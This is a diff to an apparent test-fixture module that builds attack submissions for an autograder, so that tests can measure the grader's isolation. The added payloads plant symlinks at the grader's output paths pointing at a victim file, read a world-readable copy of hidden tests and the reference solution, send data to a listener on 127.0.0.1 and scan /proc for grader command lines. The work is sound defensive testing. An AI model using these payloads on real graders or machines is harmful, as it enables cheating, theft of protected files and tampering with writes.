@@ -1,4 +1,4 @@
-"""Submissions that try to get marks without the work, or to read or damage the autograder.
+"""Submissions that try to get marks without the work, or to read or damage the autograder or the machine.
 
 Each attack is the handout (every TODO unsolved) or the reference with code added to its utils.py,
 and sometimes files beside it. tests/test_grading_attacks.py grades each through autograder.zip in
@@ -7,6 +7,8 @@ a root laid out like Gradescope's and checks that it gets what it deserves. `pyt
 the command lines in /proc, which every user can read, and from its own sys.path, which holds the
 autograder's source folder (grading/ inside it, and in Gradescope's layout results/ beside it).
 """
+import socket
+import threading
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -76,6 +78,65 @@ def drop_labels(y, drop_probability, null_label, generator=None):
 '''
 
 
+LINKS_AT_OUTPUTS = '''
+import os as _os
+_planted = []
+for _name, _target in (("results.json", "@VICTIM@"), ("grades.csv", "@VICTIM@"), ("grades.csv.tmp", "@VICTIM@"),
+                       ("grades", _os.path.dirname("@VICTIM@"))):
+    try:
+        _os.symlink(_target, _os.path.join("@SHARED@", _name))
+        _planted.append(f"PLANTED {_name}")
+    except OSError as _error:
+        _planted.append(f"COULD NOT PLANT {_name}: {_error.strerror}")
+raise RuntimeError(" | ".join(_planted))
+'''
+"""Links at the paths where the next grading writes its results, its CSV and the CSV's partial file, and
+at its folder of per-submission results, pointing at a file (and its folder) that root may write."""
+
+READ_A_COPY = '''
+import os as _os
+_found = []
+for _name in ("grading/test_hidden.py", "grading/fixtures/expected.pt", "utils.py"):
+    _path = _os.path.join("@COPY@", _name)
+    try:
+        _data = open(_path, "rb").read()
+        _found.append(f"READ {_path}: {_data[:40]!r}")
+    except OSError as _error:
+        _found.append(f"DENIED {_path}: {_error.strerror}")
+raise RuntimeError(" | ".join(_found))
+'''
+"""A world-readable checkout of the course repository elsewhere on the machine, read for its hidden tests,
+expected values and reference solution."""
+
+CONNECT_OUT = '''
+import socket as _socket
+try:
+    with _socket.create_connection((b"127.0.0.1", @PORT@), timeout=2) as _connection:  # bytes: no idna codec to load
+        _connection.sendall(b"the hidden tests, read by a submission")
+    _said = "SENT to 127.0.0.1:@PORT@"
+except OSError as _error:
+    _said = f"NO CONNECTION to 127.0.0.1:@PORT@: {_error.strerror or _error}"
+raise RuntimeError(_said)
+'''
+"""Data sent to a port on 127.0.0.1: what would carry whatever a submission can read off the machine."""
+
+READ_PROC = '''
+import os as _os
+_seen = []
+for _entry in (_os.listdir("/proc") if _os.path.isdir("/proc") else []):
+    if _entry.isdigit() and int(_entry) not in (_os.getpid(), _os.getppid()):
+        try:
+            _command = open(f"/proc/{_entry}/cmdline", "rb").read().replace(bytes(1), b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if "tools.grade" in _command or "pytest" in _command:
+            _seen.append(f"SAW {_entry}: {_command[:100]}")
+raise RuntimeError(" | ".join(_seen) or "NO GRADER PROCESS in /proc")
+'''
+"""The grader's processes looked up in /proc (its command lines name the results and the autograder's
+folder), beyond the submission's own process and its parent."""
+
+
 @dataclass(frozen=True)
 class Attack:
     """`code` is appended to the base's utils.py; `files` are written beside it. `breaks` names what
@@ -86,7 +147,8 @@ class Attack:
     code: str
     files: dict[str, str] = field(default_factory=dict)
     breaks: str | None = None
-    needs_root: bool = False  # the grader's file isolation is what stops it
+    needs_root: bool = False  # without namespaces, the grader's file isolation as root is what stops it
+    aims_outside: bool = False  # aims at Targets outside the autograder: graded by tests/test_grading_isolation.py
 
 
 def _in_q_sample(body: str) -> str:
@@ -199,7 +261,101 @@ for _folder in _grader_paths()[1] | {"/autograder/source/grading"}:
             print("could not delete", _name, _error)
 ''', needs_root=True),
     "a graded file that links to the hidden tests": Attack("handout", "", files={"ddpm.py": "@link grading/test_hidden.py"}),
+    "links planted at the grader's next output paths": Attack("handout", LINKS_AT_OUTPUTS, aims_outside=True),
+    "a world-readable copy of the course repository read": Attack("handout", READ_A_COPY, aims_outside=True),
+    "data sent to a port on 127.0.0.1": Attack("handout", CONNECT_OUT, aims_outside=True),
+    "the grader's processes read in /proc": Attack("handout", READ_PROC, aims_outside=True),
 }
+
+ISOLATION_SETTINGS = ("root, namespaces", "not root, namespaces", "root, no namespaces", "not root, no namespaces")
+"""Where a grading may run: as root or not, on a kernel that lets it create namespaces or not (a
+container whose seccomp profile forbids them, macOS, or AUTOGRADER_NAMESPACES=0). Without
+namespaces, a root grader runs the submission as the sandbox user; one that is not root, as itself."""
+
+KEPT_OUT = {
+    "hidden tests, fixtures and reference read into the output": ISOLATION_SETTINGS[:3],
+    "results file written directly, again and again from a background process": ISOLATION_SETTINGS[:3],
+    "autograder files deleted and rewritten": ISOLATION_SETTINGS[:3],
+    "links planted at the grader's next output paths": ISOLATION_SETTINGS,
+    "a world-readable copy of the course repository read": ISOLATION_SETTINGS[:2],
+    "data sent to a port on 127.0.0.1": ISOLATION_SETTINGS[:2],
+    "the grader's processes read in /proc": ISOLATION_SETTINGS[:2],
+}
+"""The settings in which each attack on what lies outside the submission's own process is kept out:
+what tests/test_grading_isolation.py measures, and docs/instructors.md's table of isolation shows."""
+
+
+def isolation_table() -> str:
+    """KEPT_OUT as the markdown table of docs/instructors.md: an attack a row, a setting a column."""
+    lines = ["| attack | " + " | ".join(ISOLATION_SETTINGS) + " |", "|---|" + "---|" * len(ISOLATION_SETTINGS)]
+    for name, settings in KEPT_OUT.items():
+        lines.append(f"| {name} | " + " | ".join("kept out" if setting in settings else "**gets through**"
+                                                 for setting in ISOLATION_SETTINGS) + " |")
+    return "\n".join(lines)
+
+
+@dataclass(frozen=True)
+class Targets:
+    """What the attacks that aim outside the autograder aim at, made by whoever grades them:
+    `shared`, a folder every user may write (sticky, as /tmp), where the next grading writes its
+    results and CSV; `victim`, a file that the grader may write and the submission may not, at which
+    the links planted there point; `copy`, a world-readable checkout of the course repository
+    elsewhere; `port`, a port on 127.0.0.1 on which a listener waits."""
+
+    shared: Path
+    victim: Path
+    copy: Path
+    port: int
+
+    def fill(self, code: str) -> str:
+        return (code.replace("@SHARED@", str(self.shared)).replace("@VICTIM@", str(self.victim))
+                .replace("@COPY@", str(self.copy)).replace("@PORT@", str(self.port)))
+
+
+class Listener:
+    """A port on 127.0.0.1 that records every byte sent to it, until stopped."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port, self.received = self.server.getsockname()[1], b""
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:  # stopped
+                return
+            with connection:
+                connection.settimeout(2)
+                try:
+                    while chunk := connection.recv(4096):
+                        self.received += chunk
+                except OSError:
+                    pass
+
+    def stop(self) -> bytes:
+        """Stop listening (shutdown wakes the accept); returns what was received."""
+        if self.thread.is_alive():
+            try:
+                self.server.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+            self.server.close()
+            self.thread.join()
+        return self.received
+
+
+def course_copy(folder: Path) -> Path:
+    """A checkout of the course repository as a teaching assistant might leave one: its hidden tests,
+    fixtures and reference solution, readable by every user. Returns `folder`."""
+    for name in ("grading/test_hidden.py", "grading/fixtures/expected.pt", "utils.py"):
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes((ROOT / name).read_bytes())
+    for path in [folder, *folder.rglob("*")]:
+        path.chmod(0o755 if path.is_dir() else 0o644)
+    return folder
 
 SEARCH_EVERY_FILE = '''
 import os as _os
@@ -222,15 +378,18 @@ reference solution (a utils.py or ddpm.py with its solution markers), and report
 UNPICKLE_MARKER = Path("/tmp/unpickled-a-submissions-answer")
 
 
-def attack_submission(name: str, folder: Path, handout: Path, autograder_source: Path = ROOT) -> Path:
+def attack_submission(name: str, folder: Path, handout: Path, autograder_source: Path = ROOT,
+                      targets: Targets | None = None) -> Path:
     """Write attack `name` into `folder` (created): the base's graded files (from `handout`, the
     output of tools/make_handout.py, or this copy's reference), the attack's code appended to
     utils.py and its extra files. A file '@link PATH' becomes a symbolic link to PATH inside
-    `autograder_source`. Returns the folder."""
+    `autograder_source`. An attack that aims outside takes its `targets`. Returns the folder."""
     attack = ATTACKS[name]
+    if attack.aims_outside and targets is None:
+        raise ValueError(f"the attack {name!r} aims outside the autograder: give it its targets")
     folder.mkdir(parents=True, exist_ok=True)
     base = {name: ((handout if attack.base == "handout" else ROOT) / name).read_text() for name in GRADED_FILES}
-    base["utils.py"] += "\n" + attack.code
+    base["utils.py"] += "\n" + (targets.fill(attack.code) if targets else attack.code)
     for name, text in {**base, **attack.files}.items():
         path = folder / name
         if path.is_symlink() or path.exists():
